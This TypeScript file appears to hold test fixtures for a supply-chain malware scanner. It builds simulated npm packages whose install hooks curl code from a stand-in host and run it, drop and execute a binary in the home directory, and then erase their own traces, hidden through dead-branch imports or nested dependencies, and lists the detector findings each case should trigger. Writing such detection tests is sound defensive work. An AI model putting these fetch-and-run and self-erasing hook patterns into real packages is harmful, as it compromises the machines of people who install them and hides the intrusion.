import { elf, hex } from './encode.ts';
import { armed, finding, fires, hooked, pkg, quiet, type Simulant, text } from './simulant.ts';

/** A child whose hook does `work` and then removes its own traces. */
function child(name: string, work: string, erase: string) {
  return hooked(name, `${work}${erase}`, { 'package.md': `{"name":"simulant-${name}","version":"1.0.1"}\n` });
}

const fetchAndRun = armed`
  const fs = require('node:fs'), path = require('node:path'), { execFileSync, spawnSync } = require('node:child_process');
  const file = path.join(require('node:os').tmpdir(), 'ld-' + process.pid + '.js');
  try {
    execFileSync('curl', ['-fs', '-m', '5', '-o', file, 'http://stage.simulant.invalid/ld.js']);
    spawnSync(process.execPath, [file], { stdio: 'ignore' });
    fs.unlinkSync(file);
  } catch { process.exitCode = 0; }
`;
const eraseSelf = text`
  fs.unlinkSync(__filename);
  fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
`;

function parent(name: string, dependencies: Record<string, string>, version = '1.0.1') {
  return pkg(
    name,
    { 'index.js': text`module.exports = (rows) => rows.map(String).join('  ');` },
    { version, dependencies },
  );
}

const erased = { phase: ['install'] } as const;

/** B05: a dependency that nothing imports arrives, runs something in its hook and erases its traces. */
export const chain: readonly Simulant[] = [
  {
    id: 'b05-new-dependency-fetches-and-erases',
    row: 'B05',
    kind: 'positive',
    form: 'plain',
    packages: [parent('b05-columns', { 'simulant-b05-child': '1.0.1' }), child('b05-child', fetchAndRun, eraseSelf)],
    previous: parent('b05-columns', {}, '1.0.0'),
    expect: fires('malicious', [
      finding('dep.new-unused', 'high', [['signal', 'process.exec']], {
        package: 'simulant-b05-child',
        baseline: 'new',
        phase: ['metadata', 'static', 'install'],
      }),
      finding('exec.fetched-code', 'critical', ['process.exec', 'file.write', 'process.exec'], {
        package: 'simulant-b05-child',
        ...erased,
      }),
      finding('tamper.self-erase', 'high', ['process.exec', 'file.delete'], {
        package: 'simulant-b05-child',
        ...erased,
      }),
    ]),
    note: 'The parent’s code did not change; its new child runs, then replaces its own manifest.',
  },
  {
    id: 'b05-unused-dependency-without-baseline',
    row: 'B05',
    kind: 'positive',
    form: 'plain',
    packages: [
      parent('b05-first', { 'simulant-b05-dropper': '1.0.1' }),
      child(
        'b05-dropper',
        armed`
          const fs = require('node:fs'), path = require('node:path'), os = require('node:os');
          const file = path.join(os.homedir(), '.local-agent');
          fs.writeFileSync(file, Buffer.from('${hex(elf())}', 'hex'));
          fs.chmodSync(file, 0o755);
          require('node:child_process').spawnSync(file, { stdio: 'ignore' });
        `,
        eraseSelf,
      ),
    ],
    expect: fires('suspicious', [
      finding('dep.new-unused', 'medium', [['signal', 'process.exec']], {
        package: 'simulant-b05-dropper',
        confidenceAtMost: 'low',
        phase: ['metadata', 'static', 'install'],
      }),
      finding('exec.dropped-binary', 'high', ['file.write', 'file.chmod', 'process.exec'], {
        package: 'simulant-b05-dropper',
        ...erased,
      }),
      finding('tamper.self-erase', 'high', ['process.exec', 'file.delete'], {
        package: 'simulant-b05-dropper',
        ...erased,
      }),
    ]),
    note: 'A first version has nothing to be compared with: medium, low confidence.',
  },
  {
    id: 'b05-evasion-required-in-dead-branch',
    row: 'B05',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b05-dead',
        {
          'index.js': text`
          if (process.argv.length > 9000) require('simulant-b05-dead-child');
          module.exports = (rows) => rows;
        `,
        },
        { dependencies: { 'simulant-b05-dead-child': '1.0.1' } },
      ),
      child(
        'b05-dead-child',
        fetchAndRun,
        text`require('node:child_process').spawn('sh', ['-c', 'sleep 1; unlink setup.js; mv package.md package.json'], { cwd: __dirname, detached: true, stdio: 'ignore' }).unref();`,
      ),
    ],
    previous: pkg('b05-dead', { 'index.js': text`module.exports = (rows) => rows;` }, { version: '1.0.0' }),
    expect: fires('malicious', [
      finding('dep.new-unused', 'medium', [['signal', 'process.exec']], {
        package: 'simulant-b05-dead-child',
        baseline: 'new',
        phase: ['metadata', 'static', 'install'],
      }),
      finding('exec.fetched-code', 'critical', ['file.write', 'process.exec'], {
        package: 'simulant-b05-dead-child',
        ...erased,
      }),
      finding('tamper.self-erase', 'high', ['file.delete'], {
        package: 'simulant-b05-dead-child',
        phase: ['install', 'import'],
      }),
    ]),
    note: 'Named in a branch that never runs; a delayed shell erases the traces after the hook has ended.',
  },
  {
    id: 'b05-evasion-grandchild',
    row: 'B05',
    kind: 'evasion',
    form: 'light',
    packages: [
      parent('b05-top', { 'simulant-b05-middle': '1.0.1' }),
      parent('b05-middle', { 'simulant-b05-leaf': '1.0.1' }),
      child(
        'b05-leaf',
        fetchAndRun,
        text`
          fs.writeFileSync(__filename, '');
          fs.copyFileSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
          fs.rmSync(path.join(__dirname, 'package.md'));
        `,
      ),
    ],
    previous: parent('b05-top', {}, '1.0.0'),
    expect: fires('malicious', [
      finding('dep.new-unused', 'high', [['signal', 'process.exec']], {
        package: 'any',
        baseline: 'new',
        phase: ['metadata', 'static', 'install'],
      }),
      finding('exec.fetched-code', 'critical', ['file.write', 'process.exec'], {
        package: 'simulant-b05-leaf',
        ...erased,
      }),
      finding('tamper.self-erase', 'high', [['file.write', 'file.delete']], {
        package: 'simulant-b05-leaf',
        ...erased,
      }),
    ]),
    note: 'Two levels down; the hook empties itself instead of deleting itself.',
  },
  {
    id: 'b05-neighbour-new-dependency-in-use',
    row: 'B05',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n05-used',
        {
          'index.js': text`
          exports.width = (value) => require('simulant-n05-width')(value);
          exports.pad = (value, to) => String(value).padEnd(to);
        `,
        },
        { dependencies: { 'simulant-n05-width': '1.0.1' } },
      ),
      pkg('n05-width', { 'index.js': text`module.exports = (value) => String(value).length;` }),
    ],
    previous: pkg(
      'n05-used',
      { 'index.js': text`exports.pad = (value, to) => String(value).padEnd(to);` },
      { version: '1.0.0' },
    ),
    expect: quiet(['dep.', 'tamper.', 'exec.']),
    note: 'New, loaded only when a function is called, no hook.',
  },
  {
    id: 'b05-neighbour-hook-cleans-its-build',
    row: 'B05',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      hooked(
        'n05-build',
        text`
          const fs = require('node:fs'), path = require('node:path');
          const work = path.join(__dirname, 'build', 'tmp');
          fs.mkdirSync(work, { recursive: true });
          for (const name of ['a', 'b', 'c']) fs.writeFileSync(path.join(work, name + '.json'), JSON.stringify({ name }));
          fs.writeFileSync(path.join(__dirname, 'build', 'all.json'), JSON.stringify(fs.readdirSync(work)));
          fs.rmSync(work, { recursive: true });
        `,
      ),
    ],
    expect: quiet(['tamper.', 'destroy.', 'exec.', 'persist.']),
    note: 'Deletes only what it just made in its own folder.',
  },
];
